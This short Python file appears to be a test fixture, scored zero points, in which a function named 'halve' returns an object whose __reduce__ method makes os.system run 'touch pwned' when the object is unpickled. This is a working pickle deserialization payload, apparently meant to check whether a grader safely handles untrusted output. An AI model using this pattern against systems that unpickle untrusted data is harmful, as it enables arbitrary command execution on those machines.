# points: 0
# It returns an object that runs code when unpickled.
import os


class Run:
    def __reduce__(self):
        return os.system, ("touch pwned",)


def halve(number):
    return Run()
